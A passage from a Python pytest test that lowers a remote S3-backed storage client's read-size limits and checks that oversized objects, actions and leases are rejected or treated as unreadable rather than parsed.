    monkeypatch.setattr(remote_module, "MAX_REMOTE_BYTES", 1024)
    monkeypatch.setattr(remote_module, "RECORD_BYTES", 2048)
    read = []
    real = remote_module._read_bounded
    monkeypatch.setattr(remote_module, "_read_bounded", lambda result, limit: read.append(limit) or real(result, limit))
    team = Remote(f"s3://{bucket}/p")
    with pytest.raises(CorruptRemote):
        team.get_object(digest)
    assert team.get_action(key) is None
    assert team.read_lease(key, 0).owner == "?"  # a lease that large is unreadable (as expired), never parsed
    assert read == [1024, 2048, 2048] and team.offline is None
